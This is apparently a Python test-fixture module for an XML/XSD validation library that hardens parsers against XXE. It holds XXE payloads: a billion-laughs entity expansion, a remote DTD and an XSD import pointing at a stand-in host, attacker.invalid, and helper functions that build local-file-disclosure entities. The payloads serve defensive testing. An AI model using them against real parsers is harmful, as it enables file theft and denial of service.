"""
XML/XSD fixtures shared by the test modules.
"""

from xxe_core.config.settings import RESOURCES_DIR

GOOD_XSD_PATH = RESOURCES_DIR / "GoodSchema.xsd"
GOOD_XML_PATH = RESOURCES_DIR / "GoodXml.xml"
BAD_XML_PATH = RESOURCES_DIR / "BadXml.xml"

GOOD_XSD = GOOD_XSD_PATH.read_bytes()

GOOD_XML = b"""<?xml version="1.0"?>
<person>
  <name>Jane Doe</name>
  <age>42</age>
</person>
"""

INVALID_XML = b"""<?xml version="1.0"?>
<person>
  <name>Jane Doe</name>
  <age>old</age>
</person>
"""

MALFORMED_XML = b"""<?xml version="1.0"?>
<person>
  <name>Jane Doe</name>
  <age>42</age>
"""

NAMESPACED_XML = b"""<?xml version="1.0"?>
<person xmlns="http://a">
  <name>Jane Doe</name>
  <age>42</age>
</person>
"""

LATIN1_TEXT = """<?xml version="1.0" encoding="ISO-8859-1"?>
<person>
  <name>José</name>
  <age>42</age>
</person>
"""

INTERNAL_ENTITY_XML = b"""<?xml version="1.0"?>
<!DOCTYPE person [
  <!ENTITY who "Jane Doe">
]>
<person>
  <name>&who;</name>
  <age>42</age>
</person>
"""

SMALL_LAUGHS_XML = b"""<?xml version="1.0"?>
<!DOCTYPE person [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<person>
  <name>&lol3;</name>
  <age>42</age>
</person>
"""

EXTERNAL_DTD_XML = b"""<?xml version="1.0"?>
<!DOCTYPE person SYSTEM "missing-person.dtd">
<person>
  <name>Jane Doe</name>
  <age>42</age>
</person>
"""

PARAMETER_ENTITY_XML = b"""<?xml version="1.0"?>
<!DOCTYPE person [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<person>
  <name>Jane Doe</name>
  <age>42</age>
</person>
"""

MALFORMED_XSD = b"""<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:element name="person">
</xs:schema>
"""

INCONSISTENT_XSD = b"""<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:element name="person" type="undefinedPersonType"/>
</xs:schema>
"""

INCLUDE_XSD = b"""<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:include schemaLocation="common-types.xsd"/>
  <xs:element name="person" type="xs:string"/>
</xs:schema>
"""

REMOTE_IMPORT_XSD = b"""<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:import namespace="urn:remote" schemaLocation="http://attacker.invalid/remote.xsd"/>
  <xs:element name="person" type="xs:string"/>
</xs:schema>
"""

TARGET_NAMESPACE_XSD = b"""<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"
           xmlns:p="urn:example:person"
           targetNamespace="urn:example:person"
           elementFormDefault="qualified">
  <xs:element name="person">
    <xs:complexType>
      <xs:sequence>
        <xs:element name="name" type="xs:string"/>
        <xs:element name="age" type="xs:nonNegativeInteger"/>
      </xs:sequence>
    </xs:complexType>
  </xs:element>
</xs:schema>
"""

SECRET = "TOP-SECRET-0xDEADBEEF"


def file_disclosure_xml(secret_uri: str) -> bytes:
    """Classic XXE payload reading ``secret_uri`` into the name element."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE person [
  <!ENTITY xxe SYSTEM "{secret_uri}">
]>
<person>
  <name>&xxe;</name>
  <age>42</age>
</person>
""".encode("utf-8")


def entity_xsd(secret_uri: str) -> bytes:
    """XSD whose DOCTYPE pulls a local file into a documentation element."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE xs:schema [
  <!ENTITY xxe SYSTEM "{secret_uri}">
]>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:annotation><xs:documentation>&xxe;</xs:documentation></xs:annotation>
  <xs:element name="person" type="xs:string"/>
</xs:schema>
""".encode("utf-8")


def nested_xml(depth: int) -> bytes:
    """Document nesting ``depth`` elements."""
    return ("<n>" * depth + "</n>" * depth).encode("utf-8")


def wide_xml(count: int) -> bytes:
    """Document with ``count`` elements in total."""
    return ("<root>" + "<i/>" * (count - 1) + "</root>").encode("utf-8")
